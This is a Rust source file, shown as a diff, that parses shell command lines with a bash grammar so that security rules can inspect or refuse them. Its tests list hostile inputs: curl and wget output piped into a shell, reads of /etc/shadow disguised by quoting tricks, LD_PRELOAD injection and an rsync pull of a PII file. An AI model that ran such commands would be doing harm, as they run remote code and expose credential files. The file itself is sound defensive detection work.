@@ -1,0 +1,826 @@
+//! Where a command line is read as the shell will run it: parsed with a real bash/POSIX
+//! grammar ([`brush_parser`], the parser of the brush shell, also what Zed uses to check
+//! agents' terminal commands), then walked into the simple commands it runs, each as the argv
+//! the program receives.
+//!
+//! Nothing is expanded. A command whose words depend on what happens at run time (variables,
+//! command, process or arithmetic substitution, globs, brace expansion, `eval`, aliases,
+//! functions, `cd` before more commands, assignments) cannot be known from its text, so it is
+//! *unreadable*: the reason is kept and rules refuse it, as they refuse SQL they cannot read.
+//! Interpreters whose program hoop cannot read (on stdin, in a file, or an inline script in a
+//! language other than the shell's) are recorded as such; `sh -c '…'` is read recursively.
+
+use brush_parser::ast;
+use brush_parser::word::{WordPiece, WordPieceWithSource};
+
+/// Longest command line read; longer ones are unreadable.
+const MAX_COMMAND: usize = 64 * 1024;
+/// Deepest `sh -c '…'` followed.
+const MAX_NESTING: usize = 4;
+/// Deepest bracket nesting handed to the grammar (its recursion is per level).
+const MAX_DEPTH: usize = 64;
+/// Most simple commands kept.
+const MAX_COMMANDS: usize = 256;
+
+/// Shells: `-c` takes a program in the shell's own language, which is read recursively.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox", "rbash"];
+/// Other interpreters: their programs (inline, on stdin or in a file) are opaque to hoop.
+const INTERPRETERS: &[&str] = &[
+    "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "deno", "bun", "php", "lua", "luajit", "tclsh", "wish",
+    "expect", "Rscript", "pwsh", "powershell", "osascript", "irb", "jshell", "groovy", "scala", "julia", "gdb", "psql", "mysql",
+    "sqlite3", "bc", "dc",
+];
+/// Commands that run another command given in their arguments.
+const WRAPPERS: &[&str] = &["sudo", "doas", "env", "nohup", "nice", "ionice", "timeout", "stdbuf", "time", "command", "builtin", "exec", "setsid", "chrt", "taskset", "unbuffer", "chroot", "runuser", "su", "flock", "watch", "strace", "ltrace", "xargs", "parallel", "busybox"];
+/// Builtins that change how later text is read or what a name runs.
+const RESHAPING: &[&str] = &[
+    "eval", "source", ".", "alias", "unalias", "export", "declare", "typeset", "local", "readonly", "shopt", "enable", "trap",
+    "hash", "coproc", "fc", "history",
+];
+/// Builtins that change the directory relative paths are read against.
+const DIRECTORY: &[&str] = &["cd", "pushd", "popd"];
+
+/// What a command line amounts to.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct Reading {
+    /// Every simple command, in order, as argv with the program resolved (`/bin/cat` → `cat`).
+    pub commands: Vec<Vec<String>>,
+    /// Every program that runs, wrappers (`sudo`, `env`) and the commands they run included.
+    pub programs: Vec<String>,
+    /// Path arguments and redirection targets, lexically normalised.
+    pub paths: Vec<String>,
+    /// Why the line cannot be read as it will run; empty when it can.
+    pub unreadable: String,
+    /// The first interpreter whose program hoop cannot read (`python3 -c`, `bash -s`,
+    /// `sh script.sh`); empty when there is none.
+    pub interpreter: String,
+    /// A pipeline feeds another command's output to an interpreter (`curl … | sh`).
+    pub pipes_to_interpreter: bool,
+    /// An scp or rsync server (the remote end of a transfer).
+    pub transfer: Option<Transfer>,
+}
+
+/// The server side of an scp or rsync transfer.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct Transfer {
+    /// `scp` or `rsync`.
+    pub protocol: &'static str,
+    /// `upload` (to the host) or `download`.
+    pub direction: &'static str,
+    /// The paths on the host.
+    pub paths: Vec<String>,
+}
+
+/// Reads a command line (SSH exec, a line typed into a shell).
+pub(crate) fn read_line(line: &str) -> Reading {
+    let mut r = Reading::default();
+    Walker { r: &mut r, depth: 0 }.line(line);
+    r.finish();
+    r
+}
+
+/// Reads an exact argv (Kubernetes exec: no shell between the client and the program).
+pub(crate) fn read_argv(argv: &[String]) -> Reading {
+    let mut r = Reading::default();
+    let mut w = Walker { r: &mut r, depth: 0 };
+    w.simple(argv.to_vec(), false);
+    r.finish();
+    r
+}
+
+impl Reading {
+    fn unreadable(&mut self, why: impl Into<String>) {
+        if self.unreadable.is_empty() {
+            self.unreadable = why.into();
+        }
+    }
+
+    fn finish(&mut self) {
+        // The server end of a transfer is what the line is only when it is all of it.
+        if self.transfer.is_some() && self.commands.len() != 1 {
+            self.transfer = None;
+            self.unreadable("an scp or rsync server run alongside other commands");
+        }
+    }
+}
+
+struct Walker<'a> {
+    r: &'a mut Reading,
+    depth: usize,
+}
+
+impl Walker<'_> {
+    fn line(&mut self, line: &str) {
+        if line.len() > MAX_COMMAND {
+            return self.r.unreadable("command line too long to read");
+        }
+        if bracket_depth(line) > MAX_DEPTH {
+            return self.r.unreadable("nesting too deep to read");
+        }
+        let text = line.to_string();
+        let parsed = super::parser::run(move || {
+            let options = brush_parser::ParserOptions::default();
+            brush_parser::Parser::new(std::io::BufReader::new(text.as_bytes()), &options, &brush_parser::SourceInfo::default())
+                .parse_program()
+                .map_err(|e| e.to_string())
+        });
+        match parsed {
+            Some(Ok(program)) => {
+                let several = program.complete_commands.iter().map(|c| c.0.len()).sum::<usize>() > 1
+                    || program.complete_commands.iter().flat_map(|c| &c.0).any(|i| !i.0.additional.is_empty() || i.0.first.seq.len() > 1);
+                for list in &program.complete_commands {
+                    self.list(list, several);
+                }
+            }
+            Some(Err(e)) => self.r.unreadable(format!("not valid shell syntax: {e}")),
+            None => self.r.unreadable("the shell parser failed"),
+        }
+    }
+
+    fn list(&mut self, list: &ast::CompoundList, several: bool) {
+        for ast::CompoundListItem(and_or, _) in &list.0 {
+            self.pipeline(&and_or.first, several);
+            for next in &and_or.additional {
+                let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
+                self.pipeline(p, several);
+            }
+        }
+    }
+
+    fn pipeline(&mut self, p: &ast::Pipeline, several: bool) {
+        for (i, cmd) in p.seq.iter().enumerate() {
+            let before = self.r.interpreter.clone();
+            let fed = i > 0;
+            self.command(cmd, several, fed);
+            // An interpreter reading a previous command's output runs what that command wrote.
+            if fed && self.r.interpreter != before && !self.r.interpreter.is_empty() {
+                self.r.pipes_to_interpreter = true;
+            }
+        }
+    }
+
+    fn command(&mut self, cmd: &ast::Command, several: bool, fed: bool) {
+        match cmd {
+            ast::Command::Simple(s) => self.simple_command(s, several, fed),
+            ast::Command::Compound(c, redirects) => {
+                if let Some(list) = redirects {
+                    for r in &list.0 {
+                        self.redirect(r);
+                    }
+                }
+                self.compound(c, several)
+            }
+            ast::Command::Function(f) => self.r.unreadable(format!("defines a function ({}) that changes what a name runs", f.fname)),
+            ast::Command::ExtendedTest(_) => self.r.unreadable("[[ … ]] is evaluated at run time"),
+        }
+    }
+
+    fn compound(&mut self, c: &ast::CompoundCommand, several: bool) {
+        match c {
+            ast::CompoundCommand::BraceGroup(ast::BraceGroupCommand(l)) | ast::CompoundCommand::Subshell(ast::SubshellCommand(l)) => {
+                self.list(l, true)
+            }
+            ast::CompoundCommand::IfClause(i) => {
+                self.list(&i.condition, true);
+                self.list(&i.then, true);
+                for e in i.elses.iter().flatten() {
+                    if let Some(cond) = &e.condition {
+                        self.list(cond, true);
+                    }
+                    self.list(&e.body, true);
+                }
+            }
+            ast::CompoundCommand::WhileClause(ast::WhileOrUntilClauseCommand(cond, ast::DoGroupCommand(body)))
+            | ast::CompoundCommand::UntilClause(ast::WhileOrUntilClauseCommand(cond, ast::DoGroupCommand(body))) => {
+                self.list(cond, true);
+                self.list(body, true);
+            }
+            ast::CompoundCommand::ForClause(f) => {
+                for w in f.values.iter().flatten() {
+                    let _ = self.word(&w.value);
+                }
+                // The loop variable takes values at run time: its uses are expansions, which
+                // make the body unreadable where they appear.
+                self.list(&f.body.0, true);
+            }
+            ast::CompoundCommand::CaseClause(_) => self.r.unreadable("case chooses commands at run time"),
+            ast::CompoundCommand::Arithmetic(_) | ast::CompoundCommand::ArithmeticForClause(_) => {
+                self.r.unreadable("arithmetic is evaluated at run time")
+            }
+        }
+        let _ = several;
+    }
+
+    fn simple_command(&mut self, s: &ast::SimpleCommand, several: bool, fed: bool) {
+        let name = s.word_or_name.iter().map(Part::Name);
+        let items = s.prefix.iter().flat_map(|p| &p.0).map(Part::Item).chain(name).chain(s.suffix.iter().flat_map(|p| &p.0).map(Part::Item));
+        let mut argv = Vec::new();
+        let mut stdin_from_doc = false;
+        for part in items {
+            let item = match part {
+                Part::Name(w) => {
+                    match self.word(&w.value) {
+                        Some(v) => argv.push(v),
+                        None => return,
+                    }
+                    continue;
+                }
+                Part::Item(i) => i,
+            };
+            match item {
+                Item::Word(w) => match self.word(&w.value) {
+                    Some(v) => argv.push(v),
+                    None => return,
+                },
+                Item::IoRedirect(r) => {
+                    if matches!(r, ast::IoRedirect::HereDocument(..) | ast::IoRedirect::HereString(..)) {
+                        stdin_from_doc = true;
+                    }
+                    self.redirect(r);
+                }
+                Item::AssignmentWord(a, _) => {
+                    return self.r.unreadable(format!("assigns {} , which changes what later words or programs mean", a.name));
+                }
+                Item::ProcessSubstitution(..) => return self.r.unreadable("process substitution runs a command whose output is read at run time"),
+            }
+        }
+        let _ = several;
+        if argv.is_empty() {
+            return;
+        }
+        self.simple(argv, fed || stdin_from_doc);
+        if several && self.r.commands.last().and_then(|c| c.first()).is_some_and(|p| DIRECTORY.contains(&p.as_str())) {
+            self.r.unreadable("changes directory before other commands, so their relative paths are read elsewhere");
+        }
+    }
+
+    /// One simple command with literal words: resolved, recorded, and what it runs followed.
+    /// `fed`: its stdin is another command's output or a document in the line.
+    fn simple(&mut self, mut argv: Vec<String>, fed: bool) {
+        if self.r.commands.len() >= MAX_COMMANDS {
+            return self.r.unreadable("too many commands to read");
+        }
+        let Some(first) = argv.first_mut() else { return };
+        *first = program_name(first).to_string();
+        for a in argv.iter().skip(1) {
+            self.path(a);
+        }
+        self.r.commands.push(argv.clone());
+        self.run(&argv, fed);
+    }
+
+    /// Follows what `argv` runs: wrappers to the command they wrap, shells into their `-c`
+    /// programs, interpreters noted, transfers recognised.
+    fn run(&mut self, argv: &[String], fed: bool) {
+        let Some(program) = argv.first() else { return };
+        let program = program_name(program).to_string();
+        if !self.r.programs.contains(&program) {
+            self.r.programs.push(program.clone());
+        }
+        let args = argv.get(1..).unwrap_or_default();
+        let p = program.as_str();
+        if RESHAPING.contains(&p) {
+            return self.r.unreadable(format!("{p} changes how the shell reads what follows"));
+        }
+        if p == "xargs" || p == "parallel" {
+            return self.r.unreadable(format!("{p} builds commands from its input at run time"));
+        }
+        if p == "watch" {
+            // watch runs its arguments through `sh -c`.
+            let text = args.iter().filter(|a| !a.starts_with('-')).cloned().collect::<Vec<_>>().join(" ");
+            return self.nested(&text);
+        }
+        if p == "su" || p == "runuser" {
+            if let Some(i) = args.iter().position(|a| a == "-c" || a == "--command") {
+                let text = args.get(i + 1).cloned().unwrap_or_default();
+                return self.nested(&text);
+            }
+            return self.interpreter(&program, "a login shell");
+        }
+        if WRAPPERS.contains(&p) {
+            let inner = wrapped(p, args);
+            let own = args.get(..args.len() - inner.map_or(0, <[String]>::len)).unwrap_or_default();
+            if own.iter().any(|a| is_assignment(a)) {
+                return self.r.unreadable(format!("{p} sets environment variables for the command it runs"));
+            }
+            if let Some(inner) = inner {
+                return self.run(inner, fed);
+            }
+            return;
+        }
+        if p == "find" {
+            self.find_exec(args);
+            return;
+        }
+        if p == "scp" && args.iter().any(|a| a == "-t" || a == "-f") {
+            let direction = if args.iter().any(|a| a == "-t") { "upload" } else { "download" };
+            let paths = args.iter().filter(|a| !a.starts_with('-')).map(|a| normalise(a)).collect();
+            self.r.transfer = Some(Transfer { protocol: "scp", direction, paths });
+            return;
+        }
+        if p == "rsync" && args.iter().any(|a| a == "--server") {
+            let direction = if args.iter().any(|a| a == "--sender") { "download" } else { "upload" };
+            // `rsync --server [--sender] OPTIONS . PATH...`: the paths follow the lone `.`.
+            let paths: Vec<String> = match args.iter().position(|a| a == ".") {
+                Some(i) => args.get(i + 1..).unwrap_or_default().iter().map(|a| normalise(a)).collect(),
+                None => Vec::new(),
+            };
+            if paths.is_empty() {
+                return self.r.unreadable("an rsync server without the paths it serves");
+            }
+            self.r.transfer = Some(Transfer { protocol: "rsync", direction, paths });
+            return;
+        }
+        if SHELLS.contains(&p) {
+            return self.shell(&program, args, fed);
+        }
+        if is_interpreter(p) {
+            let informational = !args.is_empty() && args.iter().all(|a| matches!(a.as_str(), "--version" | "-V" | "--help" | "-h" | "-v"));
+            if !informational || fed {
+                self.interpreter(&program, "its program is not shell text hoop can read");
+            }
+            return;
+        }
+        if matches!(p, "awk" | "gawk" | "mawk" | "nawk")
+            && args.iter().any(|a| a.contains("system") || a.contains("getline") || a.contains('|'))
+        {
+            self.interpreter(&program, "an awk program that runs commands");
+        }
+    }
+
+    /// `sh [-opts] [-c TEXT | -s | SCRIPT]`.
+    fn shell(&mut self, program: &str, args: &[String], fed: bool) {
+        let mut inline = false;
+        let mut i = 0;
+        while let Some(a) = args.get(i) {
+            if a == "--" {
+                i += 1;
+                break;
+            }
+            if a == "-o" || a == "+o" || a == "-O" || a == "+O" || a == "--rcfile" || a == "--init-file" {
+                i += 2;
+                continue;
+            }
+            if a.starts_with("--") || a.starts_with('+') {
+                i += 1;
+                continue;
+            }
+            if let Some(flags) = a.strip_prefix('-') {
+                if flags.contains('c') {
+                    inline = true;
+                }
+                if flags.contains('s') || flags.is_empty() {
+                    return self.interpreter(program, "a shell reading commands from its input");
+                }
+                i += 1;
+                continue;
+            }
+            break;
+        }
+        match (inline, args.get(i)) {
+            (true, Some(text)) => self.nested(&text.clone()),
+            (true, None) => self.r.unreadable("sh -c without a command"),
+            (false, Some(_)) => self.interpreter(program, "a shell running a script file"),
+            (false, None) => {
+                let _ = fed;
+                self.interpreter(program, "a shell reading commands from its input")
+            }
+        }
+    }
+
+    /// A `sh -c` program: read as a command line of its own.
+    fn nested(&mut self, text: &str) {
+        if self.depth >= MAX_NESTING {
+            return self.r.unreadable("shells nested too deep to read");
+        }
+        let mut inner = Reading::default();
+        Walker { r: &mut inner, depth: self.depth + 1 }.line(text);
+        let r = &mut *self.r;
+        r.commands.extend(inner.commands);
+        super::extend_unique(&mut r.programs, &inner.programs);
+        super::extend_unique(&mut r.paths, &inner.paths);
+        if !inner.unreadable.is_empty() {
+            r.unreadable(inner.unreadable);
+        }
+        if r.interpreter.is_empty() {
+            r.interpreter = inner.interpreter;
+        }
+        r.pipes_to_interpreter |= inner.pipes_to_interpreter;
+        if inner.transfer.is_some() {
+            r.unreadable("an scp or rsync server inside a shell program");
+        }
+    }
+
+    fn interpreter(&mut self, program: &str, why: &str) {
+        if self.r.interpreter.is_empty() {
+            self.r.interpreter = format!("{program}: {why}");
+        }
+    }
+
+    /// `find … -exec CMD … ;` runs CMD for every match.
+    fn find_exec(&mut self, args: &[String]) {
+        let mut i = 0;
+        while let Some(a) = args.get(i) {
+            if matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
+                let end = args.get(i + 1..).unwrap_or_default().iter().position(|x| x == ";" || x == "+").map_or(args.len(), |e| i + 1 + e);
+                let inner: Vec<String> = args.get(i + 1..end).unwrap_or_default().to_vec();
+                if !inner.is_empty() {
+                    self.simple(inner, false);
+                }
+                i = end + 1;
+            } else {
+                i += 1;
+            }
+        }
+    }
+
+    fn redirect(&mut self, r: &ast::IoRedirect) {
+        match r {
+            ast::IoRedirect::File(_, _, target) => match target {
+                ast::IoFileRedirectTarget::Filename(w) => {
+                    if let Some(p) = self.word(&w.value) {
+                        self.redirect_path(&p);
+                    }
+                }
+                ast::IoFileRedirectTarget::Duplicate(w) => {
+                    let _ = self.word(&w.value);
+                }
+                ast::IoFileRedirectTarget::Fd(_) => {}
+                ast::IoFileRedirectTarget::ProcessSubstitution(..) => {
+                    self.r.unreadable("process substitution runs a command whose output is read at run time")
+                }
+            },
+            ast::IoRedirect::OutputAndError(w, _) => {
+                if let Some(p) = self.word(&w.value) {
+                    self.redirect_path(&p);
+                }
+            }
+            ast::IoRedirect::HereString(_, w) => {
+                let _ = self.word(&w.value);
+            }
+            ast::IoRedirect::HereDocument(_, doc) => {
+                if doc.requires_expansion && (doc.doc.value.contains('$') || doc.doc.value.contains('`')) {
+                    self.r.unreadable("a here-document with expansions");
+                }
+            }
+        }
+    }
+
+    fn redirect_path(&mut self, p: &str) {
+        let n = normalise(p);
+        if !self.r.paths.contains(&n) {
+            self.r.paths.push(n);
+        }
+    }
+
+    /// A path-like argument (or the value of `--opt=/path`), normalised.
+    fn path(&mut self, arg: &str) {
+        let candidate = match arg.split_once('=') {
+            Some((opt, v)) if opt.starts_with('-') => v,
+            _ => arg,
+        };
+        // Text with spaces that does not start at the root is a program or a message (the
+        // argument of `sh -c`), not a path; a real path in it is read with that program.
+        if !candidate.contains('/') || (!candidate.starts_with('/') && candidate.contains(char::is_whitespace)) {
+            return;
+        }
+        if climbs_out(candidate) {
+            self.r.unreadable(format!("{candidate} climbs above the directory it is read against"));
+        }
+        let n = normalise(candidate);
+        if !self.r.paths.contains(&n) {
+            self.r.paths.push(n);
+        }
+    }
+
+    /// The literal value of a word, or `None` (and the line unreadable) when it depends on
+    /// run time.
+    fn word(&mut self, raw: &str) -> Option<String> {
+        let options = brush_parser::ParserOptions::default();
+        let pieces = match brush_parser::word::parse(raw, &options) {
+            Ok(p) => p,
+            Err(_) => {
+                self.r.unreadable(format!("the word {raw} cannot be read"));
+                return None;
+            }
+        };
+        let mut out = String::new();
+        // Brace expansion spans pieces (`{a,'b'}`): it is looked for in the unquoted text with
+        // each quoted piece standing as one plain character.
+        let shape: String = pieces
+            .iter()
+            .map(|p| match &p.piece {
+                WordPiece::Text(t) => t.as_str(),
+                _ => "q",
+            })
+            .collect();
+        if is_brace_expansion(&shape) {
+            self.r.unreadable(format!("a brace expansion in {raw}"));
+            return None;
+        }
+        match literal(&pieces, false, &mut out) {
+            Ok(()) => Some(out),
+            Err(why) => {
+                self.r.unreadable(format!("{why} in {raw}"));
+                None
+            }
+        }
+    }
+}
+
+type Item = ast::CommandPrefixOrSuffixItem;
+
+/// A simple command's parts in order: prefix items, the command word, suffix items.
+enum Part<'a> {
+    Item(&'a Item),
+    Name(&'a ast::Word),
+}
+
+/// Appends the literal text of `pieces`; `Err` names what would be expanded at run time.
+fn literal(pieces: &[WordPieceWithSource], quoted: bool, out: &mut String) -> Result<(), &'static str> {
+    for p in pieces {
+        match &p.piece {
+            WordPiece::Text(t) => {
+                if !quoted {
+                    if t.contains(['*', '?', '[']) {
+                        return Err("a glob");
+                    }
+                    if t.contains(['(', ')']) {
+                        return Err("an extended glob");
+                    }
+                }
+                out.push_str(t);
+            }
+            WordPiece::SingleQuotedText(t) => out.push_str(t),
+            WordPiece::AnsiCQuotedText(t) => out.push_str(&ansi_c(t)),
+            WordPiece::EscapeSequence(e) => {
+                // `\x` outside quotes is `x`; inside double quotes only `\$ \` \" \\` lose it.
+                let c = e.strip_prefix('\\').unwrap_or(e);
+                if quoted && !matches!(c, "$" | "`" | "\"" | "\\") {
+                    out.push_str(e);
+                } else if c != "\n" {
+                    out.push_str(c);
+                }
+            }
+            WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => literal(inner, true, out)?,
+            WordPiece::TildePrefix(t) => {
+                if quoted {
+                    out.push_str(t);
+                } else {
+                    out.push('~');
+                    out.push_str(t.strip_prefix('~').unwrap_or(t));
+                }
+            }
+            WordPiece::ParameterExpansion(_) => return Err("a variable"),
+            WordPiece::CommandSubstitution(_) | WordPiece::BackquotedCommandSubstitution(_) => return Err("a command substitution"),
+            WordPiece::ArithmeticExpression(_) => return Err("an arithmetic expansion"),
+        }
+    }
+    Ok(())
+}
+
+/// `{a,b}` or `{1..3}` in unquoted text (a bare `{}`, as `find -exec` takes, is literal).
+fn is_brace_expansion(t: &str) -> bool {
+    t.find('{').is_some_and(|open| {
+        let rest = t.get(open + 1..).unwrap_or_default();
+        rest.find('}').is_some_and(|close| {
+            let inner = rest.get(..close).unwrap_or_default();
+            inner.contains(',') || inner.contains("..")
+        })
+    })
+}
+
+/// `$'…'` escapes, for the common ones; anything else keeps its backslash (a rule sees more,
+/// never less, than runs).
+fn ansi_c(t: &str) -> String {
+    let mut out = String::new();
+    let mut chars = t.chars();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('n') => out.push('\n'),
+            Some('t') => out.push('\t'),
+            Some('\\') => out.push('\\'),
+            Some('\'') => out.push('\''),
+            Some('"') => out.push('"'),
+            Some(o) => {
+                out.push('\\');
+                out.push(o);
+            }
+            None => out.push('\\'),
+        }
+    }
+    out
+}
+
+/// The command a wrapper runs, past its own options.
+fn wrapped<'a>(wrapper: &str, args: &'a [String]) -> Option<&'a [String]> {
+    // Options that take a value, per wrapper.
+    let takes_value: &[&str] = match wrapper {
+        "sudo" => &["-u", "-g", "-h", "-p", "-C", "-D", "-R", "-T", "-U", "-r", "-t"],
+        "doas" => &["-u", "-C"],
+        "env" => &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"],
+        "nice" => &["-n", "--adjustment"],
+        "ionice" => &["-c", "-n", "-p", "-t"],
+        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
+        "stdbuf" => &["-i", "-o", "-e"],
+        "chrt" | "taskset" => &["-p"],
+        "flock" => &["-w", "-E", "-c"],
+        "strace" | "ltrace" => &["-e", "-o", "-p", "-s", "-u", "-E"],
+        _ => &[],
+    };
+    let mut i = 0;
+    while let Some(a) = args.get(i) {
+        if a == "--" {
+            i += 1;
+            break;
+        }
+        if matches!(wrapper, "env" | "sudo" | "doas") && is_assignment(a) {
+            i += 1;
+            continue;
+        }
+        if a.starts_with('-') && a.len() > 1 {
+            i += if takes_value.contains(&a.as_str()) { 2 } else { 1 };
+            continue;
+        }
+        break;
+    }
+    // timeout DURATION CMD, chrt PRIO CMD, taskset MASK CMD, flock FILE CMD, chroot DIR CMD.
+    if matches!(wrapper, "timeout" | "chrt" | "taskset" | "flock" | "chroot") {
+        i += 1;
+    }
+    args.get(i..).filter(|rest| !rest.is_empty())
+}
+
+/// `NAME=value`.
+fn is_assignment(a: &str) -> bool {
+    a.split_once('=').is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && !n.starts_with(|c: char| c.is_ascii_digit()))
+}
+
+/// `/usr/bin/python3.11` → `python3.11`.
+fn program_name(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+fn is_interpreter(p: &str) -> bool {
+    INTERPRETERS.contains(&p)
+        || p.strip_prefix("python").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+        || p.strip_prefix("perl").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+        || p.strip_prefix("ruby").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+        || p.strip_prefix("php").is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+}
+
+/// Lexical normalisation: `//` and `/./` collapse, `a/../` cancels; a relative path that
+/// climbs keeps its leading `..`.
+pub(crate) fn normalise(path: &str) -> String {
+    let absolute = path.starts_with('/');
+    let mut parts: Vec<&str> = Vec::new();
+    for seg in path.split('/') {
+        match seg {
+            "" | "." => {}
+            ".." => {
+                if parts.last().is_some_and(|p| *p != "..") {
+                    parts.pop();
+                } else if !absolute {
+                    parts.push("..");
+                }
+            }
+            s => parts.push(s),
+        }
+    }
+    let joined = parts.join("/");
+    match (absolute, joined.is_empty()) {
+        (true, _) => format!("/{joined}"),
+        (false, true) => ".".to_string(),
+        (false, false) => joined,
+    }
+}
+
+/// Whether a relative path goes above where it starts (`../../etc/shadow`).
+fn climbs_out(path: &str) -> bool {
+    !path.starts_with('/') && normalise(path).starts_with("..")
+}
+
+/// Deepest nesting of brackets and quotes-insensitive `$(`: a bound on the grammar's recursion.
+fn bracket_depth(s: &str) -> usize {
+    let (mut depth, mut max) = (0usize, 0usize);
+    for b in s.bytes() {
+        match b {
+            b'(' | b'{' | b'[' | b'`' => {
+                depth += 1;
+                max = max.max(depth);
+            }
+            b')' | b'}' | b']' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+    }
+    max
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn unreadable(line: &str) -> String {
+        let r = read_line(line);
+        assert!(!r.unreadable.is_empty(), "{line} should be unreadable: {r:?}");
+        r.unreadable
+    }
+
+    #[test]
+    fn quoting_tricks_read_as_the_shell_reads_them() {
+        let r = read_line(r#"cat /etc/sha""dow"#);
+        assert_eq!(r.commands, vec![vec!["cat".to_string(), "/etc/shadow".into()]]);
+        assert_eq!(r.paths, ["/etc/shadow"]);
+        assert_eq!(read_line(r"cat /etc/sh\adow").paths, ["/etc/shadow"]);
+        assert_eq!(read_line("cat '/etc/'shadow").paths, ["/etc/shadow"]);
+        assert_eq!(read_line("cat $'/etc/shadow'").paths, ["/etc/shadow"]);
+        assert_eq!(read_line("cat /etc/../etc/./shadow").paths, ["/etc/shadow"]);
+        assert_eq!(read_line("/bin/cat --file=/etc//shadow").paths, ["/etc/shadow"]);
+        assert_eq!(read_line("/bin/cat x").programs, ["cat"]);
+    }
+
+    #[test]
+    fn run_time_meanings_are_unreadable() {
+        for line in [
+            "c=shadow; cat /etc/$c",
+            "cat /etc/sh*w",
+            "cat /etc/sha?ow",
+            "cat /etc/{shadow,passwd}",
+            "cat /etc/{shadow,'x'}",
+            "cd /etc && cat shadow",
+            "sh -c \"$(curl http://x)\"",
+            "bash <(curl http://x)",
+            "cat `echo /etc/shadow`",
+            "echo $((1+1))",
+            "eval 'cat /etc/shadow'",
+            "source ./x.sh",
+            ". ./x.sh",
+            "alias ls=cat; ls /etc/shadow",
+            "f() { cat /etc/shadow; }; f",
+            "LD_PRELOAD=/tmp/x.so ls",
+            "echo /etc/shadow | xargs cat",
+            "cat ../../etc/shadow",
+            "case x in x) cat /etc/shadow;; esac",
+            "echo 'unterminated",
+            "cat <<EOF\n$(id)\nEOF\n",
+        ] {
+            unreadable(line);
+        }
+        assert!(read_line("cd /srv").unreadable.is_empty(), "cd alone changes nothing that follows");
+    }
+
+    #[test]
+    fn interpreters_and_pipes() {
+        let r = read_line("curl -fsSL https://x.example/i.sh | /bin/sh");
+        assert!(r.pipes_to_interpreter && r.unreadable.is_empty(), "{r:?}");
+        assert!(read_line("wget -qO- x | sudo bash").pipes_to_interpreter);
+        assert!(read_line("curl x | env python3").pipes_to_interpreter);
+        assert!(!read_line("cat x | grep y").pipes_to_interpreter);
+        for line in ["bash -s", "sh", "python3 -", "python3 -c 'import os'", "perl -e 'print 1'", "node -e 1", "bash script.sh", "sudo -u root bash"] {
+            let r = read_line(line);
+            assert!(!r.interpreter.is_empty(), "{line}: {r:?}");
+        }
+        assert!(read_line("python3 --version").interpreter.is_empty());
+        // sh -c is read recursively.
+        let r = read_line("sh -c 'cat /etc/shadow'");
+        assert!(r.interpreter.is_empty() && r.paths == ["/etc/shadow"], "{r:?}");
+        assert!(r.programs.contains(&"cat".to_string()));
+        let r = read_line("bash -lc \"sudo cat /etc/sha''dow\"");
+        assert_eq!(r.paths, ["/etc/shadow"]);
+        assert!(read_line("sudo -u app cat /etc/shadow").programs.contains(&"cat".to_string()));
+        assert!(read_line(r"find /etc -name x -exec cat {} \;").programs.contains(&"cat".to_string()));
+    }
+
+    #[test]
+    fn transfers_by_any_spelling() {
+        let t = read_line("rsync --server --sender -vlogDtpre.iLsfxCIvu . pii.txt").transfer.unwrap();
+        assert_eq!((t.protocol, t.direction, t.paths.as_slice()), ("rsync", "download", ["pii.txt".to_string()].as_slice()));
+        let t = read_line("/usr/bin/rsync --server -logDtpre.iLsfxCIvu . /srv/in/").transfer.unwrap();
+        assert_eq!((t.direction, t.paths.as_slice()), ("upload", ["/srv/in".to_string()].as_slice()));
+        let t = read_line("'scp' -f /etc/../srv/x").transfer.unwrap();
+        assert_eq!((t.protocol, t.direction, t.paths.as_slice()), ("scp", "download", ["/srv/x".to_string()].as_slice()));
+        assert!(read_line("true; rsync --server --sender . x").transfer.is_none());
+    }
+
+    #[test]
+    fn argv_without_a_shell() {
+        let r = read_argv(&["sh".into(), "-c".into(), "cat /etc/shadow".into()]);
+        assert_eq!(r.paths, ["/etc/shadow"]);
+        // Exact argv: `$x` is a literal argument, not an expansion.
+        let r = read_argv(&["echo".into(), "$HOME".into()]);
+        assert!(r.unreadable.is_empty());
+        assert!(!read_argv(&["bash".into()]).interpreter.is_empty());
+    }
+
+    #[test]
+    fn hostile_input_is_bounded() {
+        unreadable(&format!("echo {}", "$(".repeat(10_000)));
+        unreadable(&"x".repeat(MAX_COMMAND + 1));
+        let _ = read_line("\0\u{1b}[31m;;;&&||");
+        let _ = read_line(&"a | ".repeat(5000));
+    }
+}
